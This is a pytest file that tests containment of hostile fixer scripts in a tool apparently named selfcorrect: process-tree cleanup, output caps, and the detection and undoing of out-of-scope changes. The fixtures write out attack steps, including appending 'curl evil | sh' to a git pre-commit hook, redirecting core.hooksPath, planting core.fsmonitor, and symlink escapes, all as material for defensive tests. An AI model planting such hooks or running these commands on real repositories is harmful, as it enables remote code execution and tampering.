"""Hostile fixers are contained: process tree, output, hidden files, .git, the folder (rules §9).

Each test builds the attack as it was reported: a real git project in tmp_path, a real fixer
script configured as the policy's fix command, and a real `selfcorrect run`. After the run the
project is byte for byte its snapshot outside the scope, HEAD is where it was, and no process of
the fixer is alive. Nothing is mocked, and no outcome is waited for by sleeping.
"""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from selfcorrect.core.verification import in_scope
from selfcorrect.io.process_tree import OUTPUT_CAP, run_contained
from tests.hardening import project_digest
from tests.helpers import allow

SRC = {"src/a.py": "a = 1\n", "src/b.py": "b = 1\n", "src/c.py": "c = 1\n"}
EDITS = {"src/a.py": "a = 1\n# my edit\n", "src/b.py": "b = 1\n# mine too\n"}
IGNORED = {".env": "TOKEN=1\n", "build/out.txt": "built\n", "node_modules/m/index.js": "m\n"}


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True)
    return done.stdout.strip()


def hostile_project(tmp_path: Path, fixer: str, target: str = "src/a.py", scope: str = "") -> Path:
    """A git project whose linting fixer is `fixer` (sh), with uncommitted edits and ignored files.

    The issue is already in the report (the validator writes nothing), so a run goes straight
    to the fix.
    """
    repo = tmp_path / "repo"
    (repo / "workflow").mkdir(parents=True)
    for rel, text in {**SRC, "README.md": "readme\n", ".gitignore": "\n".join(IGNORED)}.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    (repo / ".gitignore").write_text(".env\nbuild/\nnode_modules/\n")
    (repo / "fixer.sh").write_text("#!/bin/sh\n" + fixer)
    (repo / "fixer.sh").chmod(0o755)
    (repo / "validate.py").write_text("pass\n")
    scope_line = f"        scope: [{scope}]\n" if scope else ""
    (repo / "workflow" / "selfcorrect.yaml").write_text(
        f"validator:\n  command: [{sys.executable}, validate.py]\n"
        "issue_types:\n  linting_errors:\n    fix:\n      - command: [sh, fixer.sh, '{target}']\n"
        "        applies_to: ['*']\n        timeout_s: 20\n" + scope_line
    )
    (repo / "workflow" / "validation_report.yaml").write_text(
        json.dumps(
            {
                "status": "FIXABLE",
                "issues": [
                    {
                        "type": "linting_errors",
                        "severity": "MAJOR",
                        "description": "E1 lint",
                        "target": target,
                    }
                ],
            }
        )
    )
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "start")
    for rel, text in {**EDITS, **IGNORED}.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    return repo


def transitions(repo: Path) -> list[dict]:
    path = repo / "workflow" / ".selfcorrect" / "journal.jsonl"
    records = [json.loads(line) for line in path.read_text().splitlines()]
    return [r for r in records if r.get("event") == "transition"]


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def running(pid: int, within: float = 0.0) -> bool:
    """Still running (not a zombie) after at most `within` seconds of polling."""
    deadline = time.monotonic() + within
    while True:
        try:
            state = Path(f"/proc/{pid}/stat").read_bytes().rpartition(b")")[2].split()[0]
        except (OSError, IndexError):
            return False
        if state == b"Z" or time.monotonic() >= deadline:
            return state != b"Z"
        time.sleep(0.01)


def wait_for(path: Path) -> int:
    """The pid a fixer's child wrote (it writes the file before it can act)."""
    assert path.exists(), f"{path.name} was never written"
    return int(path.read_text().split()[0])


# --- item 4: the whole process tree ---------------------------------------------------------


@pytest.mark.parametrize("detach", ["&", "setsid"])
def test_a_detached_child_of_the_fixer_is_dead_before_changes_are_measured(
    tmp_path: Path, run_line, detach: str
) -> None:
    pidfile = tmp_path / "child.pid"
    spawn = "sh -c 'echo $$ > {p}; sleep 30; echo evil >> README.md' &"
    if detach == "setsid":
        spawn = "setsid sh -c 'echo $$ > {p}; sleep 30; echo evil >> README.md' &"
    spawn = spawn.format(p=pidfile)
    fixer = f'echo fix >> "$1"\n{spawn}\nwhile [ ! -s {pidfile} ]; do :; done\nexit 0\n'
    repo = hostile_project(tmp_path, fixer)
    before = project_digest(repo, ["src/a.py"])

    run_line(["run", repo / "workflow", "--format", "json"])

    pid = wait_for(pidfile)
    assert not alive(pid), "the fixer's detached child outlived the run"
    assert project_digest(repo, ["src/a.py"]) == before
    steps = transitions(repo)
    assert ("remediating", "verifying") in [(s["from"], s["to"]) for s in steps]


def shell_fixer(tmp_path: Path, body: str) -> str:
    """An executable `fixer.sh` running `body` under /bin/sh: its path."""
    script = tmp_path / "fixer.sh"
    script.write_text("#!/bin/sh\n" + body)
    script.chmod(0o755)
    return str(script)


def test_a_setsid_grandchild_is_ended_with_a_timed_out_fixer(tmp_path: Path) -> None:
    pidfile = tmp_path / "grandchild.pid"
    script = shell_fixer(
        tmp_path,
        f"setsid sh -c 'echo $$ > {pidfile}; exec sleep 600' &\n"
        f"while [ ! -s {pidfile} ]; do :; done\nexec sleep 600\n",
    )

    done = run_contained([script], tmp_path, 3.0)

    assert done.timed_out
    assert not alive(wait_for(pidfile))


def test_a_fixer_that_kills_its_keeper_still_loses_its_process_group(tmp_path: Path) -> None:
    pidfile = tmp_path / "child.pid"
    script = shell_fixer(tmp_path, f"sleep 600 &\necho $! > {pidfile}\nkill -9 $PPID\nwait\n")

    done = run_contained([script], tmp_path, 20.0)

    assert not done.ok and "keeper" in (done.error or "")
    assert not running(wait_for(pidfile), within=20.0)


def test_a_fixer_that_kills_its_keeper_leaves_no_setsid_grandchild(tmp_path: Path) -> None:
    """selfcorrect is a subreaper while the fixer runs: the dead keeper's orphans are its own."""
    pidfile = tmp_path / "grandchild.pid"
    script = shell_fixer(
        tmp_path,
        f"setsid sh -c 'echo $$ > {pidfile}.tmp; mv {pidfile}.tmp {pidfile}; exec sleep 600' &\n"
        f"while [ ! -s {pidfile} ]; do :; done\nkill -9 $PPID\nexec sleep 600\n",
    )

    done = run_contained([script], tmp_path, 60.0)

    grandchild = wait_for(pidfile)
    try:
        assert not done.ok
        assert not running(grandchild)  # before: reparented to init, asleep for 10 minutes
    finally:
        with contextlib.suppress(OSError):
            os.kill(grandchild, signal.SIGKILL)


def test_selfcorrect_killed_mid_fix_takes_the_fixer_tree_with_it(tmp_path: Path) -> None:
    pidfile = tmp_path / "grandchild.pid"
    script = tmp_path / "fixer.sh"
    script.write_text(
        f"#!/bin/sh\nsetsid sh -c 'echo $$ > {pidfile}.tmp; mv {pidfile}.tmp {pidfile}; "
        "exec sleep 600' &\nexec sleep 600\n"
    )
    script.chmod(0o755)
    code = (
        "import pathlib, sys\nfrom selfcorrect.io.process_tree import run_contained\n"
        f"run_contained([{str(script)!r}], pathlib.Path({str(tmp_path)!r}), 600)\n"
    )
    runner = subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
    deadline = time.monotonic() + 60
    while not pidfile.exists() and time.monotonic() < deadline:
        time.sleep(0.01)
    grandchild = wait_for(pidfile)

    runner.kill()  # SIGKILL: selfcorrect gets no chance to clean up; the keeper must
    runner.wait()

    assert not running(grandchild, within=20.0)


def test_a_fixer_that_is_not_installed_is_reported_not_found(tmp_path: Path) -> None:
    done = run_contained(["selfcorrect-no-such-fixer"], tmp_path, 5.0)
    assert done.not_found and "not found" in done.describe(5.0)


# --- item 11a: output is capped, streaming ----------------------------------------------------


def test_a_fixer_printing_without_end_keeps_only_the_last_mebibyte(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setenv("TMPDIR", str(temp))
    # 64 MiB of output then a last line: far more than the cap, bounded so the test ends.
    script = tmp_path / "flood.py"
    script.write_text(
        "import sys\nline = b'x' * 1023 + b'\\n'\n"
        "for _ in range(64 * 1024):\n    sys.stdout.buffer.write(line)\n"
        "sys.stdout.buffer.write(b'the last line\\n')\n"
    )

    done = run_contained([sys.executable, str(script)], tmp_path, 120.0)

    assert done.ok
    assert len(done.output) == OUTPUT_CAP
    assert done.output.endswith(b"the last line\n") and done.tail.endswith("the last line")
    assert list(temp.iterdir()) == []  # nothing spooled to disk


def test_a_flooding_fixer_in_a_run_never_spools_its_output_to_disk(
    tmp_path: Path, run_line
) -> None:
    # The fixer looks at where its own output goes: a pipe that selfcorrect drains, never a
    # file that grows with everything it printed (the reported attack grew /tmp by 2.9 GB).
    seen = tmp_path / "stdout.txt"
    fixer = (
        'echo fix >> "$1"\n'
        "head -c 16777216 /dev/zero\n"
        f"{sys.executable} -c 'import os, stat, sys; s = os.fstat(1); "
        'open(sys.argv[1], "w").write(f"{stat.S_ISREG(s.st_mode)} {s.st_size}")\' '
        f"{seen}\n"
    )
    repo = hostile_project(tmp_path, fixer)

    run_line(["run", repo / "workflow", "--format", "json"])

    regular, size = seen.read_text().split()
    assert regular == "False" and int(size) <= OUTPUT_CAP
    outcome = next(s for s in transitions(repo) if s["from"] == "remediating")["evidence"]
    assert outcome["exit"] == 0


# --- item 13c: a folder in scope covers its files ---------------------------------------------


def test_a_folder_scope_covers_the_files_under_it() -> None:
    assert in_scope("src/a.py", ["src"]) and in_scope("src/deep/a.py", ["src/"])
    assert not in_scope("srcx/a.py", ["src"]) and not in_scope("other.py", ["src"])
    assert in_scope("anything", ["."]) and in_scope("src/a.py", ["src/*.py"])


def test_a_fix_within_a_folder_scope_is_not_a_violation(tmp_path: Path, run_line) -> None:
    repo = hostile_project(tmp_path, 'echo fix >> src/b.py\necho fix >> "$1"\n', scope="src")

    run_line(["run", repo / "workflow", "--format", "json"])

    verdicts = [s["evidence"].get("verdict") for s in transitions(repo)]
    assert "SCOPE_VIOLATION" not in verdicts
    assert (repo / "src" / "b.py").read_text().endswith("fix\n")


def test_no_fixer_process_is_left_after_many_runs(tmp_path: Path) -> None:
    """Strays would still run `sleep 31.4159`; zombies would show up as our children."""
    for _ in range(5):
        done = run_contained(
            ["sh", "-c", "sleep 31.4159 & setsid sleep 31.4159 & exit 0"], tmp_path, 5.0
        )
        assert done.ok
    strays, zombies = [], []
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
            fields = Path(f"/proc/{name}/stat").read_bytes().rpartition(b")")[2].split()
        except OSError:
            continue
        if cmdline == b"sleep\x0031.4159\x00":
            strays.append(name)
        if fields[1] == str(os.getpid()).encode() and fields[0] == b"Z":
            zombies.append(name)
    assert (strays, zombies) == ([], [])


# --- item 2: undo through a swapped folder ----------------------------------------------------


def compensation(repo: Path) -> dict:
    """The evidence of the run's last compensating → escalated/circuit_open record."""
    done = [s for s in transitions(repo) if s["from"] == "compensating"]
    assert done, "nothing was compensated"
    return {"to": done[-1]["to"], **done[-1]["evidence"]}


def test_a_folder_swapped_for_a_symlink_comes_back_with_every_edit(
    tmp_path: Path, run_line
) -> None:
    elsewhere = tmp_path / "elsewhere"
    fixer = (
        f"mkdir -p {elsewhere}\necho theirs > {elsewhere}/a.py\nrm -rf src\nln -s {elsewhere} src\n"
    )
    repo = hostile_project(tmp_path, fixer)
    before = project_digest(repo, scope=())

    run_line(["run", repo / "workflow", "--format", "json"])

    assert not (repo / "src").is_symlink() and (repo / "src").is_dir()
    for rel, text in {**SRC, **EDITS}.items():
        assert (repo / rel).read_text() == text  # the uncommitted edits too
    assert (elsewhere / "a.py").read_text() == "theirs\n"  # nothing written through the link
    assert project_digest(repo, scope=()) == before
    undo = compensation(repo)
    assert (undo["to"], undo["failed"], undo["skipped"]) == ("escalated", [], [])
    assert {"src", "src/a.py", "src/b.py", "src/c.py"} <= set(undo["restored"])


def test_a_file_that_cannot_be_put_back_is_failed_and_opens_the_circuit(
    tmp_path: Path, run_line
) -> None:
    # node_modules is listed, never kept (too big to copy before every fix): a change there
    # cannot be undone, and must say so.
    repo = hostile_project(tmp_path, 'echo fix >> "$1"\necho evil >> node_modules/m/index.js\n')

    run_line(["run", repo / "workflow", "--format", "json"])

    undo = compensation(repo)
    assert undo["to"] == "circuit_open"
    assert undo["failed"] == ["node_modules/m/index.js"] and undo["skipped"] == []
    assert (repo / "src" / "a.py").read_text() == EDITS["src/a.py"]  # the rest is undone


# --- item 3: changes invisible to verification ------------------------------------------------

ATTACKS = {
    "ignored files": "echo evil >> .env\necho evil >> build/out.txt\necho new > build/new.txt\n",
    "a git hook": "echo 'curl evil | sh' >> .git/hooks/pre-commit\n",
    "git config": "git config core.hooksPath /tmp/hooks\n",
    "the policy": "printf 'global_cycles: 99\\n' >> workflow/selfcorrect.yaml\n",
    "the journal": 'echo \'{"event": "reset"}\' >> workflow/.selfcorrect/journal.jsonl\n',
    "a commit": "git add -A\ngit commit -qm 'the fixer was here'\n",
    "a new ignored tree": "mkdir -p node_modules/evil\necho x > node_modules/evil/index.js\n",
    "a planted bytecode": "mkdir -p src/__pycache__\necho x > src/__pycache__/b.cpython-312.pyc\n",
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_change_a_fixer_makes_is_seen_and_undone(
    tmp_path: Path, run_line, attack: str
) -> None:
    repo = hostile_project(tmp_path, 'echo fix >> "$1"\n' + ATTACKS[attack])
    head = git(repo, "rev-parse", "HEAD")
    in_scope = ("src/a.py",) if attack == "a planted bytecode" else ()  # that fix is applied
    before = project_digest(repo, scope=in_scope)
    journal = repo / "workflow" / ".selfcorrect" / "journal.jsonl"

    run_line(["run", repo / "workflow", "--format", "json"])

    assert project_digest(repo, scope=in_scope) == before, "the project is not its snapshot"
    assert git(repo, "rev-parse", "HEAD") == head
    assert '"reset"' not in journal.read_text()
    if attack == "a planted bytecode":  # a tool cache: discarded, not a violation
        assert not (repo / "src" / "__pycache__" / "b.cpython-312.pyc").exists()
        return
    verifying = [s for s in transitions(repo) if s["from"] == "verifying"]
    assert verifying[0]["evidence"]["verdict"] == "SCOPE_VIOLATION"
    undo = compensation(repo)
    assert (undo["to"], undo["failed"], undo["skipped"]) == ("escalated", [], [])


def test_outside_git_the_skipped_folders_count_too(tmp_path: Path, run_line) -> None:
    repo = hostile_project(
        tmp_path,
        'echo fix >> "$1"\necho x > .venv/evil.pth\nmkdir -p node_modules/evil\n'
        "echo x > node_modules/evil/index.js\n",
    )
    subprocess.run(["rm", "-rf", str(repo / ".git")], check=True)
    allow(repo / "workflow")  # no longer committed: a person allows its fixer
    (repo / ".venv").mkdir()
    (repo / ".venv" / "pyvenv.cfg").write_text("home = /usr\n")
    before = project_digest(repo, scope=())

    run_line(["run", repo / "workflow", "--format", "json"])

    assert project_digest(repo, scope=()) == before
    undo = compensation(repo)
    assert (undo["to"], undo["failed"], undo["skipped"]) == ("escalated", [], [])


@pytest.mark.parametrize("target", ["workflow/selfcorrect.yaml", ".git/config", "src/../.git"])
def test_a_target_in_git_or_the_workflow_folder_is_refused_before_the_fixer_runs(
    tmp_path: Path, run_line, target: str
) -> None:
    repo = hostile_project(tmp_path, 'echo ran > ran.txt\necho x >> "$1"\n', target=target)
    before = project_digest(repo, scope=())

    run_line(["run", repo / "workflow", "--format", "json"])

    assert not (repo / "ran.txt").exists()
    assert project_digest(repo, scope=()) == before
    refused = [s for s in transitions(repo) if (s["from"], s["to"]) == ("preflight", "escalated")]
    assert (
        refused and "never gets `.git` or the workflow folder" in refused[0]["evidence"]["reason"]
    )


def test_a_fixer_that_creates_many_files_is_undone_and_journaled_in_brief(
    tmp_path: Path, run_line
) -> None:
    fixer = (
        'echo fix >> "$1"\nmkdir -p node_modules/big\n'
        "for i in $(seq 500); do : > node_modules/big/$i.js; done\n"
    )
    repo = hostile_project(tmp_path, fixer)
    before = project_digest(repo)

    run_line(["run", repo / "workflow", "--format", "json"])

    assert project_digest(repo) == before and not (repo / "node_modules" / "big").exists()
    undo = compensation(repo)
    assert undo["to"] == "escalated" and undo["restored_total"] == 501  # and src/a.py
    assert len(undo["restored"]) == 100


HOOK_ENTRY = (
    '  - tool: Bash\n    error: "ENOENT: no such file"\n    timestamp: "2026-11-29T10:00:00Z"\n'
)


def test_entries_the_hooks_append_during_a_fix_are_kept_and_are_no_violation(
    tmp_path: Path, run_line
) -> None:
    """Agents go on working while a fix runs, and their hooks append to the failure log.
    An append is theirs: undoing it would lose their entries, and it is not the fixer's
    violation (here the fixer's own run stands in for the hook, at the same moment)."""
    repo = hostile_project(
        tmp_path,
        f'echo fix >> "$1"\nprintf %s {shlex.quote(HOOK_ENTRY)} >> workflow/tool_failures.yaml\n',
    )
    log = repo / "workflow" / "tool_failures.yaml"
    log.write_text("failures:\n")

    run_line(["run", repo / "workflow", "--format", "json"])

    assert log.read_text() == "failures:\n" + HOOK_ENTRY
    verifying = [s for s in transitions(repo) if s["from"] == "verifying"]
    assert verifying == [] or verifying[0]["evidence"].get("verdict") != "SCOPE_VIOLATION"
    assert (repo / "src" / "a.py").read_text().endswith("fix\n")  # the fix itself stood


def test_a_failure_log_rewritten_during_a_fix_is_a_violation_and_restored(
    tmp_path: Path, run_line
) -> None:
    repo = hostile_project(
        tmp_path, 'echo fix >> "$1"\necho "failures: []" > workflow/tool_failures.yaml\n'
    )
    log = repo / "workflow" / "tool_failures.yaml"
    log.write_text("failures:\n" + HOOK_ENTRY)

    run_line(["run", repo / "workflow", "--format", "json"])

    assert log.read_text() == "failures:\n" + HOOK_ENTRY
    verifying = [s for s in transitions(repo) if s["from"] == "verifying"]
    assert verifying[0]["evidence"]["verdict"] == "SCOPE_VIOLATION"


def test_a_people_edited_document_an_undo_puts_back_is_kept_first(tmp_path: Path, run_line) -> None:
    """Editors take no lock: a person's save of coordination_log.yaml that lands while a
    fixer runs looks like the fixer's change and is undone with it. Its bytes are kept under
    .selfcorrect/undone/ and named in the journal, never lost (here the fixer's own run
    stands in for the person's save, at the same moment)."""
    saved = "# a person's note, saved during the fix\ncontroller: lead\n"
    repo = hostile_project(
        tmp_path,
        f'echo fix >> "$1"\nprintf %s {shlex.quote(saved)} > workflow/coordination_log.yaml\n',
    )
    log = repo / "workflow" / "coordination_log.yaml"
    log.write_text("controller: lead\n")

    run_line(["run", repo / "workflow", "--format", "json"])

    assert log.read_text().startswith("controller: lead\n")  # the undo put the file back
    undone = repo / "workflow" / ".selfcorrect" / "undone"
    (kept,) = undone.glob("workflow_coordination_log.yaml.*")
    assert kept.read_text() == saved
    assert (undone / next(undone.glob("src_a.py.*")).name).read_text().endswith("fix\n")
    undo = compensation(repo)
    assert f"workflow/.selfcorrect/undone/{kept.name}" in undo["kept"]


def test_a_fixer_that_grows_a_file_to_20_gb_is_seen_without_reading_it(
    tmp_path: Path, run_line
) -> None:
    """A sparse 20 GB file costs nothing to make; reading it whole cost selfcorrect 10 GB of
    memory. It is seen as changed, its bytes are never read, and the fix is undone."""
    repo = hostile_project(tmp_path, 'echo fix >> "$1"\ntruncate -s 20G src/b.py\n')

    result = run_line(["run", repo / "workflow", "--format", "json"])

    assert result.exit_code in (1, 3), result.stderr
    assert "internal error" not in result.stderr
    assert (repo / "src" / "b.py").stat().st_size < 1024  # put back
    verifying = [s for s in transitions(repo) if s["from"] == "verifying"]
    assert verifying[0]["evidence"]["verdict"] == "SCOPE_VIOLATION"


def test_a_fixer_that_puts_a_fifo_in_place_of_the_failure_log_hangs_nothing(
    tmp_path: Path, run_line
) -> None:
    repo = hostile_project(
        tmp_path,
        'echo fix >> "$1"\nrm workflow/tool_failures.yaml\nmkfifo workflow/tool_failures.yaml\n',
    )
    (repo / "workflow" / "tool_failures.yaml").write_text("failures:\n" + HOOK_ENTRY)

    result = run_line(["run", repo / "workflow", "--format", "json"])

    assert "internal error" not in result.stderr
    assert (repo / "workflow" / "tool_failures.yaml").read_text() == "failures:\n" + HOOK_ENTRY


def test_a_fix_that_turns_its_target_into_a_link_out_of_the_project_is_undone(
    tmp_path: Path, run_line
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("not the project's\n")
    repo = hostile_project(tmp_path, f'rm "$1"\nln -s {victim} "$1"\n')

    run_line(["run", repo / "workflow", "--format", "json"])

    assert not (repo / "src" / "a.py").is_symlink()
    assert (repo / "src" / "a.py").read_text() == EDITS["src/a.py"]
    assert victim.read_text() == "not the project's\n"
    verifying = [s for s in transitions(repo) if s["from"] == "verifying"]
    assert verifying[0]["evidence"]["verdict"] == "SCOPE_VIOLATION"


def test_the_undone_folder_is_capped_oldest_copies_first_and_journaled(
    tmp_path: Path, run_line
) -> None:
    """Each undo keeps its copies, but undos add up (three rounds left 181 MB): the folder as a
    whole stays within its cap, the oldest copies go first, and the journal names them."""
    from selfcorrect.io import undone_copies

    repo = hostile_project(tmp_path, 'echo fix >> "$1"\necho junk > README.md\n')
    undone = repo / "workflow" / ".selfcorrect" / "undone"
    undone.mkdir(parents=True)
    third = undone_copies.MAX_BYTES * 4 // 10  # three of them: over the cap
    for age, name in enumerate(["newest.bin", "middle.bin", "oldest.bin"]):
        with (undone / name).open("wb") as handle:
            handle.truncate(third)  # sparse: sized, no disk used
        os.utime(undone / name, ns=(10**18 - age * 10**12, 10**18 - age * 10**12))

    run_line(["run", repo / "workflow", "--format", "json"])

    names = {p.name for p in undone.iterdir()}
    assert "oldest.bin" not in names  # before: every copy stayed, the folder grew without end
    assert {"middle.bin", "newest.bin"} <= names
    assert any(n.startswith("README.md.") for n in names)  # this undo's own copy is kept
    assert sum(p.stat().st_size for p in undone.iterdir()) <= undone_copies.MAX_BYTES
    assert compensation(repo)["pruned"] == ["workflow/.selfcorrect/undone/oldest.bin"]


def test_a_fix_runs_no_program_the_repositorys_config_names(tmp_path: Path, run_line) -> None:
    """A fix is measured with `git status`, and `.git/config` is writable by any agent in the
    project: a `core.fsmonitor` planted there would run as selfcorrect at every fix. It is
    never run (docs/containment.md)."""
    from tests.test_partial_fixes import HALF_FIXER, fixer_project

    repo = fixer_project(tmp_path, HALF_FIXER)
    planted = tmp_path / "planted.sh"
    ran = tmp_path / "planted-ran"
    planted.write_text(f"#!/bin/sh\ntouch {ran}\n")
    planted.chmod(0o755)
    subprocess.run(["git", "config", "core.fsmonitor", str(planted)], cwd=repo, check=True)

    result = run_line(["run", repo / "workflow", "--validate-first", "--format", "json"])

    assert result.exit_code in (0, 1, 3), result.stderr
    assert json.loads(result.stdout)["changed_by_fixes"]  # the fix ran and was measured
    assert not ran.exists()
